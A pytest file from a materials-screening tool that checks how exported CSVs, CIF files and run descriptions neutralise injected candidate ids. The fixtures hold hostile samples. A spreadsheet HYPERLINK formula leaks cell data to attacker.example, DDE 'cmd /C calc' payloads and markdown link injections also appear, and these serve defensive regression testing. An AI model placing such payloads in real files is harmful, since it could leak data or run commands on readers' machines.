"""Text from a pool table reaches files other people open: a spreadsheet must not run it as a
formula, a CIF must not gain lines from it, a run description must not gain links or columns from it
(security audit s22, findings 4, 7 and 8)."""

from __future__ import annotations

import csv
import re
import warnings
from pathlib import Path

import pandas as pd
import pytest
from markdown_it import MarkdownIt
from mlflow.artifacts import download_artifacts
from pymatgen.core import Composition, Lattice, Structure

from electroscreen.analysis.export import export_shortlist
from electroscreen.analysis.export_provenance import cif_header, write_structure
from electroscreen.data.packed import pack_structures
from electroscreen.data.spreadsheet_text import (
    from_spreadsheet,
    spreadsheet_cell,
    spreadsheet_safe,
    undo_spreadsheet_cell,
)
from electroscreen.screening.mlflow_run import finish_screening_run, start_screening_run
from electroscreen.screening.ranking import rank_candidates
from electroscreen.screening.results import read_results
from electroscreen.screening.run_description import screening_note
from electroscreen.screening.runner import screen
from electroscreen.screening.screen_config import (
    RankingConfig,
    ScreeningConfig,
    load_screening_config,
)

#: Ids a spreadsheet would run as formulas (OWASP "CSV injection"), each with a real formula.
FORMULA_IDS = {
    '=HYPERLINK("http://attacker.example/?leak="&B3,"Li3PS4 (SI)")': "Li3PS4",
    "=cmd|' /C calc'!A0": "Li7La3Zr2O12",
    "+SUM(1+1)*cmd|' /C calc'!A0": "Li6PS5Cl",
    "@SUM(1+1)": "Li3YCl6",
    "-2+3+cmd|' /C calc'!A0": "Li10GeP2S12",
    "\t=1+1": "Li3InCl6",
}
#: Already behind an apostrophe: one more, so that reading the file back is exact (a pool table's
#: ``'=x`` is read as ``=x``, as a CSV electroscreen wrote).
QUOTED = "'=already quoted"
#: Ids that stay as written: a number as text, plain text, markdown a description must not render.
PLAIN_IDS = {
    "-3.2": "Li3N",
    "+7e-3": "Li3PS4",
    "x-1": "Li3YCl6",
    "[Supplementary data](https://attacker.example) ![x](https://attacker.example/i.png)": "Li3PS4",
    "a|b <b>c</b> `d`": "Li6PS5Cl",
}
LICL = Structure.from_spacegroup("Fm-3m", Lattice.cubic(5.13), ["Li", "Cl"], [[0, 0, 0], [0.5] * 3])
#: A CIF header this id reached as written gained a data block (Na instead of LiCl).
CIF_ID = (
    "LiCl-1\ndata_injected\n_cell_length_a 9\n_cell_length_b 9\n_cell_length_c 9\n"
    "_cell_angle_alpha 90\n_cell_angle_beta 90\n_cell_angle_gamma 90\n"
    "loop_\n_atom_site_label\n_atom_site_type_symbol\n_atom_site_fract_x\n_atom_site_fract_y\n"
    "_atom_site_fract_z\nNa1 Na 0 0 0\n#"
)


def _live(cell: str) -> bool:
    """Whether a spreadsheet would read ``cell`` as a formula (a plain number is a number)."""
    return cell[:1] in set("=+-@\t\r") and not re.fullmatch(r"[+-]?[0-9.]+([eE][+-]?[0-9]+)?", cell)


def _raw_rows(path: Path) -> list[dict[str, str]]:
    """A CSV's cells exactly as a spreadsheet gets them."""
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_a_cell_gets_an_apostrophe_only_where_a_spreadsheet_would_see_a_formula():
    for text in ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-inf", QUOTED, "''+x"]:
        assert spreadsheet_cell(text) == "'" + text
        assert undo_spreadsheet_cell(spreadsheet_cell(text)) == text
    for text in ["-3.2", "+7e-3", "-.5", "5", "Li3PS4", "x-1", "'x", "", " =1", "'-3.2"]:
        assert spreadsheet_cell(text) == text
        assert undo_spreadsheet_cell(text) == text
    frame = pd.DataFrame(
        {"id": ["=1", "-3.2", None], "sigma": [-3.5, -1.0, float("nan")], "n": [-1, 2, 3]}
    ).rename(columns={"n": "-n"})
    safe = spreadsheet_safe(frame)
    assert safe["id"].tolist()[:2] == ["'=1", "-3.2"] and safe["id"].isna().tolist()[2]
    assert safe["sigma"].equals(frame["sigma"]) and safe["'-n"].equals(frame["-n"])
    assert frame["id"].tolist()[0] == "=1"  # the caller's frame is left alone
    pd.testing.assert_frame_equal(from_spreadsheet(safe), frame)


@pytest.fixture(scope="module")
def screened(tmp_path_factory, model_store):
    root = tmp_path_factory.mktemp("injection")
    ids = {**FORMULA_IDS, **PLAIN_IDS, "ok_id": "=1+1"}
    pd.DataFrame({"candidate_id": list(ids), "formula": list(ids.values())}).to_csv(
        root / "pool.csv", index=False
    )
    # a table refuses an id with a line break (bad_character, tests/data/test_table_ids.py); a
    # packed cache keeps its ids as they are, so the outputs must keep it from breaking lines
    pack_structures([LICL], [CIF_ID]).save(root / "cifs.npz")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        result = screen(
            [str(root / "pool.csv"), str(root / "cifs.npz")], root / "out",
            config=load_screening_config(batch_size=100), tracking_uri=model_store.uri,
            track=False, progress=False,
        )  # fmt: skip
    return root, result.results


def test_results_csv_neutralises_formulas_and_the_parquet_keeps_the_ids(screened):
    root, results = screened
    parquet = read_results(root / "out" / "results.parquet")
    written = [*FORMULA_IDS, *PLAIN_IDS, "ok_id", CIF_ID]
    assert parquet["candidate_id"].tolist() == results["candidate_id"].tolist() == written
    rows = _raw_rows(root / "out" / "results.csv")
    shown = {r["candidate_id"]: r for r in rows}
    assert [r["candidate_id"] for r in rows[: len(FORMULA_IDS)]] == ["'" + i for i in FORMULA_IDS]
    assert all(i in shown for i in PLAIN_IDS)  # a number as text, text with a '-' inside: as is
    assert shown["ok_id"]["formula"] == "'=1+1" and shown["ok_id"]["status"] != "ok"
    for row in rows:  # numbers are never touched (negative log10 sigma, empty where not predicted)
        assert not row["pred_log10_sigma"].startswith("'")
        assert not any(_live(v) for v in row.values())
    assert any(r["pred_log10_sigma"].startswith("-") for r in rows)
    # what reads results.csv back sees the ids as screened
    back = read_results(root / "out" / "results.csv")
    assert back["candidate_id"].tolist() == written
    assert back["formula"].tolist() == parquet["formula"].tolist()


def test_screening_results_csv_again_keeps_the_ids(screened, model_store, tmp_path):
    root, results = screened
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        again = screen(
            [str(root / "out" / "results.csv")], tmp_path / "again",
            config=load_screening_config(batch_size=100), tracking_uri=model_store.uri,
            track=False, progress=False,
        ).results  # fmt: skip
    assert again["candidate_id"].tolist() == results["candidate_id"].tolist()
    # every row as screened, but the packed cache's id with line breaks: a table refuses it
    expected = results["status"].where(results["candidate_id"] != CIF_ID, "bad_character")
    assert again["status"].tolist() == expected.tolist()


def test_export_shortlist_csv_and_the_cif_header(screened, tmp_path):
    root, results = screened
    exported = export_shortlist(root / "out", tmp_path / "exp", top=50)
    rows = _raw_rows(exported.csv)
    ids = {r["candidate_id"] for r in rows}
    ranked = results.loc[results["rank"] > 0, "candidate_id"]
    assert len(ranked) >= 8
    for cid in ranked:
        assert spreadsheet_cell(cid) in ids
    assert {"'" + i for i in FORMULA_IDS} & ids
    assert not any(_live(v) for r in rows for v in r.values())
    # the CIF of the id with newlines reads back as the screened LiCl, one header comment line
    [row] = [r for r in exported.shortlist.itertuples() if r.candidate_id == CIF_ID]
    cif = tmp_path / "exp" / row.files.split(";")[0]
    text = cif.read_text()
    assert Structure.from_file(cif).composition.reduced_composition == Composition("LiCl")
    assert "\ndata_injected" not in text and text.count("\ndata_") == 1
    assert text.splitlines()[0].startswith("# electroscreen export: rank")
    assert "LiCl-1\\ndata_injected" in text.splitlines()[0]


def test_cif_header_keeps_every_value_on_its_comment_line(tmp_path):
    provenance = {
        "seed_id": "s\r\ndata_x",
        "seed_formula": "LiCl\x0b",
        "substitutions": "Na->Li\u2028_cell_length_a 99",
        "lattice_scale": 1.0,
    }
    header = cif_header(1, "a\nb", provenance)
    lines = header.splitlines()
    assert len(lines) == 3 and all(line.startswith("# ") for line in lines)
    write_structure(LICL, tmp_path / "x", "", header)
    read = Structure.from_file(tmp_path / "x" / "structure.cif")
    assert read.composition.reduced_composition == Composition("LiCl")


def _results_with_ids(ids: list[str]) -> pd.DataFrame:
    n = len(ids)
    frame = pd.DataFrame(
        {
            "candidate_id": ids,
            "formula": ["Li3PS4"] * n,
            "status": ["ok"] * n,
            "error": [""] * n,
            "pred_log10_sigma": [-2.0 - 0.1 * i for i in range(n)],
            "pred_log10_sigma_std": [0.2] * n,
            "pred_log10_sigma_lo": [-2.5 - 0.1 * i for i in range(n)],
            "pred_log10_sigma_hi": [-1.5 - 0.1 * i for i in range(n)],
            "p_air_stable": [0.9 - 0.05 * i for i in range(n)],
            "p_air_stable_std": [0.05] * n,
        }
    )
    return pd.concat([frame, rank_candidates(frame, RankingConfig())], axis=1)


def test_top_csv_and_results_artifact_neutralise_formulas(tmp_path):
    uri = f"sqlite:///{tmp_path / 'mlflow.db'}"
    ids = [*FORMULA_IDS, QUOTED, *PLAIN_IDS]
    results = _results_with_ids(ids)
    run_id = start_screening_run(
        tracking_uri=uri, experiment="injection", run_id=None,
        config=ScreeningConfig(batch_size=7), inputs=["pool.csv"], pool_digest="ab" * 32,
        model_uris={"conductivity": "models:/c/1"},
    )  # fmt: skip
    finish_screening_run(
        run_id, tracking_uri=uri, results=results, out=tmp_path / "not-written",
        timings={"total": 1.0}, counts={"ok": len(ids)}, top=len(ids),
    )  # fmt: skip
    for name in ("results/top.csv", "results/results.csv"):
        path = download_artifacts(run_id=run_id, artifact_path=name, tracking_uri=uri)
        rows = _raw_rows(Path(path))
        assert sorted(r["candidate_id"] for r in rows) == sorted(spreadsheet_cell(i) for i in ids)
        assert not any(_live(v) for r in rows for v in r.values())
        assert any(r["pred_log10_sigma"].startswith("-") for r in rows)
        assert "-3.2" in {r["candidate_id"] for r in rows}


def test_run_description_table_cells_hold_the_id_as_text():
    ids = [
        *PLAIN_IDS,
        "two\nlines | x",
        "=cmd|' /C calc'!A0",
        "mail@attacker.example www.a.example",
    ]
    results = _results_with_ids(ids)
    note = screening_note(
        ["pool.csv"], {"conductivity": "models:/c/1"}, results=results,
        metrics={"passed_carrier": len(ids)}, top=len(ids),
    )  # fmt: skip
    lines = note.splitlines()
    start = lines.index(next(line for line in lines if line.startswith("| rank |")))
    assert len(lines) == start + 2 + len(ids)  # the table ends the note: one line a row
    assert all(line.startswith("| ") and line.endswith(" |") for line in lines[start + 2 :])
    assert "://" not in note and "www." not in note and "@attacker" not in note  # no autolinks
    tokens = MarkdownIt("commonmark").enable("table").parse(note)
    assert not [t for t in tokens if t.type == "inline" and any(
        c.type in {"link_open", "image", "html_inline"} for c in t.children or []
    )]  # fmt: skip
    cells, row = [], []
    for t in tokens:
        if t.type == "tr_open":
            row = []
        elif t.type == "inline" and row is not None:
            row.append("".join(c.content for c in t.children if c.type in {"text", "code_inline"}))
        if t.type == "tr_close":
            cells.append(row)
    body = cells[1:]
    assert all(len(r) == 6 for r in cells)  # no cell split by a '|'
    by_rank = results.sort_values("rank")["candidate_id"].tolist()
    assert [r[1] for r in body] == [" ".join(i.split("\n")) for i in by_rank]
